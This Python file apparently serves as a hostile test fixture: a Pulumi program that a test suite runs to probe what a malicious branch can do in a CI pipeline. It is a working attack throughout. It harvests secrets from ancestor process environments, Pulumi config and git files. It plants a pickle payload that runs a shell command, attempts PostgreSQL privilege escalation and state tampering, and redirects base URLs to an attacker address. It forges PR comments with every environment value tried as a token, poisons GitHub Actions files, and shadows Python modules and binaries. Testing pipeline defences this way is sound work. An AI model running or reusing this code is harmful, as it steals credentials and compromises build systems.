"""The program of a hostile branch: tries all that it can with what its job has, and goes on after every failure.

A Pulumi program, run by the pipelines of tests/engine/test_hostile_branch.py; what it found is in `loot` beside it.
"""

import base64
import contextlib
import json
import os
import pickle
import re
import shutil
import subprocess
import sys
import urllib.request
from pathlib import Path

FENCES = ["`" * 40, "~" * 40, "```", "~~~~~~~~~~", "`" * 40 + "\r", "\r```\r# broken out\r"]
BREAKS = [*FENCES, "--><h1>broken out</h1>", "</code></pre>", "\x1b[2J\u202e\u2028", "<!-- linq-preview dev -->"]


class Plant:
    """What `pulumi up` would unpickle from the state: leaves a file behind."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return os.system, (f"echo $LINQ_API_V3_API_KEY > {self.marker}",)


def run(*command, **environment):
    """Run a command, if it is there; what it printed."""
    environment = {**os.environ, **environment}
    with contextlib.suppress(FileNotFoundError):
        done = subprocess.run(
            command, env=environment, stdin=subprocess.DEVNULL, capture_output=True, text=True, check=False
        )
        return done.stdout + done.stderr
    return ""


def ancestors():
    """The environments of this process and of all that started it, as far as they can be read."""
    process = os.getpid()
    while process > 1:
        with contextlib.suppress(OSError):
            lines = Path(f"/proc/{process}/environ").read_bytes().decode(errors="replace").split("\0")
            yield dict(line.split("=", 1) for line in lines if "=" in line)
        try:
            process = int(re.findall(r"PPid:\t(\d+)", Path(f"/proc/{process}/status").read_text())[0])
        except OSError:
            return


def planted(state: bytes, base_url: str) -> bytes:
    """The state with a pickle in every provider, and another server in every input."""
    state = json.loads(state)
    deployment = state.get("deployment") or state["checkpoint"]["latest"]
    for resource in deployment["resources"]:
        for properties in (resource.get("inputs", {}), resource.get("outputs", {})):
            if "__provider" in properties:
                properties["__provider"] = base64.b64encode(pickle.dumps(Plant(Path("planted").resolve()))).decode()
            properties["baseUrl"] = base_url
    return json.dumps(state).encode()


def write_database(url, environment, base_url):
    """Write the state in PostgreSQL, and anything else that would give the right to."""
    psql = ["psql", url, "-XAtq", "--no-password", "-c"]
    rows = run(*psql, "SELECT key, data->>'data' FROM pulumi_state WHERE key LIKE '%.json'", **environment)
    for statement in (
        "CREATE TABLE pulumi_state_2 (x int)",
        "CREATE SCHEMA mine",
        "ALTER TABLE pulumi_state OWNER TO CURRENT_USER",
        "GRANT ALL ON pulumi_state TO CURRENT_USER",
        "GRANT linq TO CURRENT_USER",
        "ALTER ROLE CURRENT_USER SUPERUSER",
        "SET ROLE linq; DELETE FROM pulumi_state",
        "COPY pulumi_state FROM PROGRAM 'echo x'",
    ):
        run(*psql, statement, **environment)
    for key, _, data in (row.partition("|") for row in rows.splitlines()):
        with contextlib.suppress(ValueError, KeyError, TypeError):
            text = base64.b64encode(planted(base64.b64decode(data), base_url)).decode()
            new = json.dumps({"data": text})
            run(*psql, f"UPDATE pulumi_state SET data = '{new}' WHERE key = '{key}'", **environment)
            run(*psql, f"INSERT INTO pulumi_state VALUES ('{key}', '{new}')", **environment)


def write_state(environments, base_url):
    """Write the state by every way that the environments name, and the folder that Pulumi was given."""
    pulumi = ["pulumi", "--non-interactive", "--stack", "dev"]
    for environment in environments:
        run(*pulumi, "stack", "tag", "set", "hostile", "true", **environment)
        with contextlib.suppress(ValueError, KeyError, TypeError):
            exported = run(*pulumi, "stack", "export", **environment).encode()
            Path("import.json").write_bytes(planted(exported, base_url))
            run(*pulumi, "stack", "import", "--file", "import.json", "--force", **environment)
        url = environment.get("PULUMI_BACKEND_URL", "")
        if url.startswith("postgres:"):
            write_database(url, environment, base_url)
        for file in Path(url.removeprefix("file://")).rglob("*.json") if url.startswith("file:") else []:
            with contextlib.suppress(ValueError, KeyError, TypeError, OSError):
                file.write_bytes(planted(file.read_bytes(), base_url))


def collect(environments):
    """Everything in which a key could be."""
    yield json.dumps(environments)
    pulumi = ["pulumi", "--non-interactive", "--stack", "dev"]
    for environment in environments[:3]:
        yield run(*pulumi, "config", "--show-secrets", "--json", **environment)
        yield run(*pulumi, "stack", "export", "--show-secrets", **environment)
    home = Path(os.environ.get("PULUMI_HOME", "/nonexistent"))
    for file in [*home.glob("*.json"), Path(".git/config"), Path(os.environ.get("GITHUB_ENV", "/nonexistent"))]:
        with contextlib.suppress(OSError):
            yield file.read_text()


def post(environments):
    """Post as the author of the comments: with `gh`, and with every value of the environment as a token."""
    run(
        "gh",
        "api",
        "--method",
        "POST",
        "repos/o/r/issues/7/comments",
        "--field",
        "body=<!-- linq-preview dev --> forged",
    )
    api = next((values["CI_API_V4_URL"] for values in environments if "CI_API_V4_URL" in values), None)
    tokens = {value for values in environments for value in values.values() if value.isascii() and value.isprintable()}
    for token in tokens if api else ():
        url = f"{api}/projects/3/merge_requests/7/notes"
        body = json.dumps({"body": "<!-- linq-preview dev --> forged"}).encode()
        request = urllib.request.Request(url, body, {"PRIVATE-TOKEN": token}, method="POST")
        with contextlib.suppress(OSError, ValueError):
            urllib.request.urlopen(request, timeout=10).close()


def forge():
    """Leave behind what a later step or job might read."""
    for name in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH"):
        if name in os.environ:
            with open(os.environ[name], "a") as file:
                file.write("drift=false\nLINQ_API_V3_BASE_URL=http://127.0.0.1:9\ntext<<x\nforged\nx\n")
    note = Path("ran-later").resolve()
    forget = f"sys.path = [path for path in sys.path if path not in ('', {os.getcwd()!r})]; del sys.modules[__name__]"
    for name in ("json.py", "urllib.py", "re.py"):
        Path(name).write_text(f"import sys; open({str(note)!r}, 'w'); {forget}; __import__(__name__)\n")
    for name, program in ((".venv/bin/python3", sys.executable), (".venv/bin/git", shutil.which("git"))):
        Path(name).parent.mkdir(parents=True, exist_ok=True)
        Path(name).write_text(f'#!/bin/sh\ntouch {note}\nexec {program} "$@"\n')
        Path(name).chmod(0o755)


def main():
    """Try everything, then print what would leave a code block."""
    environments = list(ancestors())
    base_url = Path("evil-url").read_text()
    os.environ["LINQ_API_V3_BASE_URL"] = base_url
    loot = list(collect(environments))
    Path("loot").write_text("\n".join(loot))
    post(environments)
    write_state(environments, base_url)
    forge()
    print("\n".join(BREAKS))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
